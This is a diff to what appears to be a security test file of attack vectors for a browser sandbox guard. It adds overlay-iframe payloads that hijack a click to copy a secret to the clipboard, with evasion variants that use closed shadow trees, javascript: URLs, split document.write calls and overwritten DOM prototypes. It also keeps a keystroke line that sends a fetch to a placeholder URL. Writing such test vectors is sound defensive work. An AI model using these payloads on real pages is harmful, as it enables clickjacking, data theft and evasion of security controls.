@@ -6,7 +6,87 @@ import { markup, script, type Vector } from "./vector.ts";
 
 const reached = (source: string): string => `try{${source};parent.postMessage("REACHED","*")}catch{}`;
 const inClick = (source: string): string => `onclick=async()=>{${source}}`;
+const COPYING = `<textarea>@SECRET</textarea><script>onclick=()=>{document.querySelector('textarea').select();document.execCommand('copy')}</script>`;
+const OVER = "position:fixed;inset:0;width:100%;height:100%";
+/** Script that makes a frame over all with a document that copies. */
+const FRAME = `const f=document.createElement("iframe");f.style.cssText="${OVER}";f.srcdoc=${JSON.stringify(COPYING).replaceAll("</", "<\\/")};`;
 const THEFT = `const i=document.createElement("input");document.body.append(i);i.onkeydown=()=>{parent.postMessage("REACHED a key","*");fetch("@URL")};`;
+
+/** A document nested in the app, or in its place, that copies in a person's click. */
+const copying: readonly Vector[] = [
+  markup(
+    "the clipboard by command in a frame of srcdoc",
+    `<iframe style="${OVER}" srcdoc="${COPYING}"></iframe>`,
+    "click",
+  ),
+  script("the clipboard by command in a frame made by script", `${FRAME}document.body.append(f)`, "click"),
+  script(
+    "the clipboard by command in a frame that is filled later",
+    `${FRAME}const s=f.srcdoc;f.srcdoc="x";document.body.append(f);f.onload=()=>{f.onload=null;f.srcdoc=s}`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a frame filled by an attribute node",
+    `${FRAME}const a=document.createAttribute("srcdoc");a.value=f.srcdoc;f.removeAttribute("srcdoc");f.setAttributeNode(a);document.body.append(f)`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a frame of a frame",
+    `${FRAME}const g=f.cloneNode();g.srcdoc="<style>body{margin:0}</style>"+f.outerHTML;document.body.append(g)`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a closed shadow tree",
+    `${FRAME}const d=document.createElement("div");d.attachShadow({mode:"closed"}).append(f);document.body.append(d)`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a copy of a closed shadow tree",
+    `${FRAME}const d=document.createElement("div");d.attachShadow({mode:"closed",clonable:true}).append(f);document.body.append(d.cloneNode(true))`,
+    "click",
+  ),
+  markup(
+    "the clipboard by command in a closed shadow tree of the markup",
+    `<div><template shadowrootmode="closed"><iframe style="${OVER}" srcdoc="${COPYING}"></iframe></template></div>`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a closed shadow tree of a text",
+    `${FRAME}const d=document.createElement("div");document.body.append(d);d.setHTMLUnsafe('<div><template shadowrootmode="closed">'+f.outerHTML+"</template></div>")`,
+    "click",
+  ),
+  script(
+    "the clipboard by command, with what the guard may use changed",
+    `for(const p of [Node,Element,Document,DocumentFragment,MutationObserver,MutationRecord,NodeList,String,Array,HTMLIFrameElement])for(const n of Object.getOwnPropertyNames(p.prototype))if(!/^(append|style|constructor|srcdoc|createElement|body|setProperty)$/.test(n))try{Object.defineProperty(p.prototype,n,{value:()=>[],configurable:true})}catch{}
+${FRAME}document.body.append(f)`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a frame of a javascript address",
+    `${FRAME}f.removeAttribute("srcdoc");f.src="javascript:"+JSON.stringify(${JSON.stringify(COPYING).replaceAll("</", "<\\/")});document.body.append(f)`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a frame of a set",
+    `const s=document.createElement("frameset");s.cols="*";const f=document.createElement("frame");f.src="javascript:"+JSON.stringify(${JSON.stringify(COPYING).replaceAll("</", "<\\/")});s.append(f);document.body=s`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a closed shadow tree written in pieces",
+    `${FRAME}document.write("<div><templ");document.write('ate shadowroot');document.write('mode="closed">'+f.outerHTML+"</template></div>")`,
+    "click",
+  ),
+  markup(
+    "the clipboard by command in a closed shadow tree that begins in a script",
+    `<script>document.write("<div><template shadow")</script>rootmode="closed"><iframe style="${OVER}" srcdoc="${COPYING}"></iframe></template></div>`,
+    "click",
+  ),
+  script(
+    "the clipboard by command in a document of a javascript address",
+    `setTimeout(()=>location="javascript:"+JSON.stringify(${JSON.stringify(COPYING.replace("<textarea>", "<textarea style='position:fixed;top:0'>")).replaceAll("</", "<\\/")}),200)`,
+    "click",
+  ),
+];
 
 /** All of them. */
 export const hostVectors: readonly Vector[] = [
@@ -72,11 +152,7 @@ export const hostVectors: readonly Vector[] = [
     inClick(`await navigator.clipboard.readText();parent.postMessage("REACHED","*")`),
     "click",
   ),
-  markup(
-    "the clipboard by command in a frame of srcdoc",
-    `<iframe style="position:fixed;inset:0;width:100%;height:100%" srcdoc="<textarea>@SECRET</textarea><script>onclick=()=>{document.querySelector('textarea').select();document.execCommand('copy')}</script>"></iframe>`,
-    "click",
-  ),
+  ...copying,
   script("the keyboard", `${THEFT}setInterval(()=>{window.focus();i.focus()},50)`, "type"),
   markup(
     "the keyboard, from a frame of srcdoc",
